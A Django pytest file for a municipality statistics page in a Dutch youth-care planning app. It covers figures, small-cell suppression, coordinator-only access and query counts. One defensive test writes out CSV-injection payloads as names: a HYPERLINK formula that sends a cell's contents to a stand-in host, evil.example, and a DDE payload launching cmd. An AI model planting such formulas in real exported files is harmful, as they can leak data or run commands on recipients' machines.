"""/cijfers/: every figure against a gemeente built by hand, small cells suppressed, only for
coordinators, in the same number of queries for 10 and 10 000 plans."""

import csv
import io
from datetime import date, datetime, time

import pytest
from django.utils import timezone

from domains.models import Leefdomein
from network.models import Organisation
from network.services import coordinator_group_ensure
from plans.models import (
    Action,
    DomainAssessment,
    Goal,
    Handover,
    PlanRole,
    Reminder,
    ReminderRule,
    StabilityScore,
    Toekomstplan,
)
from tests.conftest import many_plans
from tests.network.factories import (
    JongereFactory,
    MembershipFactory,
    NetworkMemberFactory,
    OrganisationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

PERIOD = {"gemeente": "Testdorp", "start": "2025-01-01", "end": "2025-12-31"}


def at(day: str) -> datetime:
    return timezone.make_aware(datetime.combine(date.fromisoformat(day), time(12)))


@pytest.fixture
def coordinator():
    user = UserFactory(is_staff=True)
    user.groups.add(coordinator_group_ensure())
    return user


def _plan(*, birth, created, regisseur, organisation, phase="wie", **extra):
    jongere = JongereFactory(birth_date=date.fromisoformat(birth), gemeente=organisation.gemeente)
    plan = Toekomstplan.objects.create(
        jongere=jongere, regisseur=regisseur, phase=phase, created_at=at(created), **extra
    )
    role = PlanRole.objects.create(
        plan=plan, user=regisseur, role="regisseur", organisation=organisation
    )
    return plan, role


@pytest.fixture
def gemeente(db):
    """Testdorp in 2025, built so that every figure has a known value.

    Open at the end of 2025: 7 plans of 16-year-olds (started at 15, phase 5 WIE + 2 WAT, 6 with
    a JIM, wonen from 2 to 4) and 3 of 18-year-olds (started at 18, phase HOE, wonen first scored
    3). Let go in 2025: 5 plans, at 21. Registered without a plan: 6 of 15 years 11 months, known
    to Jeugdhulp Oost. Overdue: 6 actions of Jeugdhulp Oost, 2 of the own network. Reminders: 5
    sent in 2025 (1 more before). Handovers: 3 proposed in 2025. Anderstad has 5 plans that never
    count.
    """
    oost = OrganisationFactory(name="Jeugdhulp Oost", kind="jeugdhulp")
    west = OrganisationFactory(name="Wijkteam West")
    regisseur = MembershipFactory(organisation=oost).user
    wonen = Leefdomein.objects.get(code="wonen")
    young, older = [], []
    for i in range(7):
        plan, role = _plan(
            birth="2009-03-01",
            created="2025-02-01",
            regisseur=regisseur,
            organisation=oost,
            phase="wie" if i < 5 else "wat",
        )
        young.append((plan, role))
        if i < 6:
            jim = NetworkMemberFactory(jongere=plan.jongere, is_jim=True)
            PlanRole.objects.create(plan=plan, user=UserFactory(), role="jim", network_member=jim)
        assessment = DomainAssessment.objects.create(plan=plan, leefdomein=wonen, stability=4)
        StabilityScore.objects.create(
            assessment=assessment, score=2, recorded_at=at("2024-12-01"), recorded_by=regisseur
        )
        StabilityScore.objects.create(
            assessment=assessment, score=4, recorded_at=at("2025-06-01"), recorded_by=regisseur
        )
    for _i in range(3):
        plan, role = _plan(
            birth="2006-06-15",
            created="2025-03-01",
            regisseur=regisseur,
            organisation=oost,
            phase="hoe",
        )
        older.append((plan, role))
        assessment = DomainAssessment.objects.create(plan=plan, leefdomein=wonen, stability=3)
        StabilityScore.objects.create(
            assessment=assessment, score=3, recorded_at=at("2025-05-01"), recorded_by=regisseur
        )
    for _i in range(5):
        _plan(
            birth="2004-01-10",
            created="2024-01-01",
            regisseur=regisseur,
            organisation=oost,
            status="losgelaten",
            let_go_at=at("2025-06-01"),
        )
    for _i in range(6):
        JongereFactory(birth_date=date(2010, 1, 1), gemeente="Testdorp", known_by=oost)
    plan, role = young[0]
    goal = Goal.objects.create(plan=plan, leefdomein=wonen, text="Een kamer", created_by=regisseur)
    member = NetworkMemberFactory(jongere=plan.jongere)
    for _i in range(6):
        Action.objects.create(
            goal=goal,
            text="Bellen",
            assignee_role=role,
            due_date=date(2025, 11, 1),
            created_by=regisseur,
        )
    for _i in range(2):
        Action.objects.create(
            goal=goal,
            text="Mee",
            assignee_member=member,
            due_date=date(2025, 11, 1),
            created_by=regisseur,
        )
    Action.objects.create(
        goal=goal,
        text="Klaar",
        assignee_role=role,
        due_date=date(2025, 11, 1),
        done_at=at("2025-11-02"),
        created_by=regisseur,
    )
    rule = ReminderRule.objects.order_by("pk").first()
    for index, (plan, _role) in enumerate(young[:6]):
        Reminder.objects.create(
            plan=plan,
            rule=rule,
            recipient=regisseur,
            due_date=date(2025, 5, 1),
            status="sent",
            sent_at=at("2024-12-20" if index == 5 else "2025-05-01"),
        )
    for plan, _role in older:
        Handover.objects.create(
            plan=plan,
            from_user=regisseur,
            from_organisation=oost,
            to_user=MembershipFactory(organisation=west).user,
            to_organisation=west,
            note="Warme overdracht",
            proposed_at=at("2025-09-01"),
            accepted_at=at("2025-09-10"),
        )
    elsewhere = OrganisationFactory(name="Wijkteam Anderstad", gemeente="Anderstad")
    other = MembershipFactory(organisation=elsewhere).user
    for _i in range(5):
        _plan(birth="2009-03-01", created="2025-02-01", regisseur=other, organisation=elsewhere)
    return {"oost": oost, "west": west, "young": young}


def _tables(client, **params) -> dict[str, dict[str, list[str]]]:
    """Every table of /cijfers/ as CSV, row label → the other cells."""
    tables = {}
    page = client.get("/cijfers/", {**PERIOD, **params})
    assert page.status_code == 200
    for table in page.context["tables"]:
        response = client.get(f"/cijfers/{table.slug}.csv", {**PERIOD, **params})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        tables[table.slug] = {row[0]: row[1:] for row in rows[1:]}
    return tables


def test_every_figure_matches_the_hand_built_gemeente(gemeente, coordinator, client_for):
    tables = _tables(client_for(coordinator))
    assert tables["leeftijd"] == {
        "12–15 jaar": ["<5", "6"],
        "16–17 jaar": ["7", "<5"],
        "18–20 jaar": ["<5", "<5"],
        "21–23 jaar": ["<5", "<5"],
        "24–27 jaar": ["<5", "<5"],
    }
    assert tables["aandelen"] == {
        "Plannen": ["10", ""],
        "Plan gestart vóór 17": ["7", "70%"],
        "Met een JIM": ["6", "60%"],
    }
    assert tables["fasen"] == {"WIE": ["5"], "WAT": ["<5"], "HOE": ["<5"]}
    assert tables["stabiliteit"]["Wonen"] == ["<5", "<5", "<5", "7", "<5"]
    assert tables["stabiliteit-verandering"]["Wonen"] == ["7", "<5", "<5", "<5"]
    assert tables["te-laat"] == {"Eigen netwerk en de jongere": ["<5"], "Jeugdhulp Oost": ["6"]}
    rule = ReminderRule.objects.order_by("pk").first()
    assert tables["herinneringen"] == {rule.name: ["5"]}
    assert tables["overdrachten"] == {
        "Voorgesteld": ["<5"],
        "Aanvaard": ["<5"],
        "Ingetrokken": ["<5"],
        "Nog open": ["<5"],
    }
    assert tables["losgelaten"]["21–22 jaar"] == ["5"]
    assert tables["zonder-plan"] == {"Jeugdhulp Oost": ["6"]}


def test_a_cell_of_three_shows_as_less_than_five_on_the_page_and_in_the_csv(
    gemeente, coordinator, client_for
):
    client = client_for(coordinator)
    html = client.get("/cijfers/", PERIOD).content.decode()
    # three plans in phase HOE and three handovers: never the number itself
    assert "&lt;5" in html
    hoe_row = html.split(">HOE</th>", 1)[1].split("</tr>", 1)[0]
    assert "&lt;5" in hoe_row and ">3<" not in hoe_row
    csv_text = client.get("/cijfers/overdrachten.csv", PERIOD).content.decode("utf-8-sig")
    assert "Voorgesteld;<5" in csv_text
    assert ";3" not in csv_text


def test_figures_of_one_organisation_count_only_plans_it_works_in(
    gemeente, coordinator, client_for
):
    tables = _tables(client_for(coordinator), organisation=str(gemeente["west"].uuid))
    assert tables["aandelen"]["Plannen"] == ["<5", ""]
    assert tables["zonder-plan"] == {}


def test_figures_show_no_names_and_no_plan_content(gemeente, coordinator, client_for):
    client = client_for(coordinator)
    everything = client.get("/cijfers/", PERIOD).content.decode()
    for table in client.get("/cijfers/", PERIOD).context["tables"]:
        everything += client.get(f"/cijfers/{table.slug}.csv", PERIOD).content.decode()
    plan = gemeente["young"][0][0]
    assert plan.jongere.last_name not in everything
    assert "Een kamer" not in everything
    assert "Bellen" not in everything
    assert "Warme overdracht" not in everything
    assert str(plan.uuid) not in everything


def test_the_page_has_a_chart_with_a_table_beside_it(gemeente, coordinator, client_for):
    html = client_for(coordinator).get("/cijfers/", PERIOD).content.decode()
    assert html.count('<svg class="tp-figure__chart" role="img"') >= 4
    assert 'id="tabel-fasen"' in html
    assert "/cijfers/fasen.csv?" in html


@pytest.mark.parametrize("who", ["professional", "jongere", "staff_without_group"])
def test_only_coordinators_see_the_figures(gemeente, client_for, who, plan):
    user = {
        "professional": plan.regisseur,
        "jongere": plan.jongere.user,
        "staff_without_group": UserFactory(is_staff=True),
    }[who]
    client = client_for(user)
    assert client.get("/cijfers/", PERIOD).status_code == 403
    assert client.get("/cijfers/fasen.csv", PERIOD).status_code == 403


def test_signed_out_visitors_are_sent_to_sign_in(client):
    response = client.get("/cijfers/")
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_a_coordinator_of_an_organisation_sees_only_their_gemeente(gemeente, client_for):
    coordinator = MembershipFactory(
        organisation=Organisation.objects.get(name="Wijkteam Anderstad"),
        user=UserFactory(is_staff=True),
    ).user
    coordinator.groups.add(coordinator_group_ensure())
    client = client_for(coordinator)
    response = client.get("/cijfers/", PERIOD)
    assert response.status_code == 200
    assert response.context["filters"] is None  # Testdorp is not one of theirs
    response = client.get("/cijfers/", {**PERIOD, "gemeente": "Anderstad"})
    assert response.context["filters"].gemeente == "Anderstad"


def test_a_period_that_ends_before_it_starts_is_refused(coordinator, client_for, organisation):
    response = client_for(coordinator).get(
        "/cijfers/", {**PERIOD, "start": "2025-12-31", "end": "2025-01-01"}
    )
    assert response.status_code == 200
    assert response.context["filters"] is None
    assert response.context["form"].errors["end"]


def _figures_queries(client, django_assert_max_num_queries, bound):
    with django_assert_max_num_queries(bound) as captured:
        response = client.get("/cijfers/", {**PERIOD, "end": "2099-12-31"})
    assert response.status_code == 200
    return len(captured.captured_queries), response


def test_figures_answer_in_the_same_queries_for_10_and_10000_plans(
    coordinator, regisseur, organisation, client_for, django_assert_max_num_queries
):
    client = client_for(coordinator)
    client.get("/cijfers/")  # the session's first request writes it; not a figure's query
    many_plans(regisseur, organisation, 10)
    small, response = _figures_queries(client, django_assert_max_num_queries, 23)
    assert response.context["tables"][1].rows[0][1].value == 10
    many_plans(regisseur, organisation, 9990)
    large, response = _figures_queries(client, django_assert_max_num_queries, 23)
    assert response.context["tables"][1].rows[0][1].value == 10000
    assert small == large


# Issue 19: the review's attacks: dates at the calendar's ends, formulas in names that reach
# the CSV downloads, and a professional who is not a coordinator.


@pytest.mark.parametrize(
    "attack",
    [
        {"end": "9999-12-31"},
        {"start": "0001-01-01"},
        {"start": "0001-01-01", "end": "9999-12-31"},
    ],
)
def test_a_date_at_the_end_of_the_calendar_gets_a_dutch_message_not_a_server_error(
    coordinator,
    client_for,
    attack,
):
    client = client_for(coordinator)
    response = client.get("/cijfers/", {**PERIOD, **attack})
    assert response.status_code == 200
    assert "Kies een datum tussen 2000 en 2099." in response.content.decode()
    assert response.context["tables"] == []
    assert client.get("/cijfers/fasen.csv", {**PERIOD, **attack}).status_code == 404


def test_formulas_in_rule_and_organisation_names_are_plain_text_in_the_csv(
    gemeente,
    coordinator,
    client_for,
):
    rule = ReminderRule.objects.order_by("pk").first()
    rule.name = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    rule.save()
    gemeente["oost"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    gemeente["oost"].save()
    client = client_for(coordinator)
    cells = {}
    for slug in ("herinneringen", "te-laat", "zonder-plan"):
        response = client.get(f"/cijfers/{slug}.csv", PERIOD)
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        cells[slug] = [row[0] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
    assert cells["herinneringen"] == ["'" + rule.name]
    assert "'" + gemeente["oost"].name in cells["te-laat"]
    assert cells["zonder-plan"] == ["'" + gemeente["oost"].name]
    for column in cells.values():
        assert not any(cell[:1] in "=+-@\t\r" for cell in column)


def test_a_professional_who_is_not_a_coordinator_gets_our_dutch_403_page(regisseur, client_for):
    response = client_for(regisseur).get("/cijfers/")
    assert response.status_code == 403
    html = response.content.decode()
    assert "U hebt geen toegang tot deze pagina" in html
    assert 'href="/"' in html and "Forbidden" not in html
    assert client_for(regisseur).get("/cijfers/fasen.csv").status_code == 403
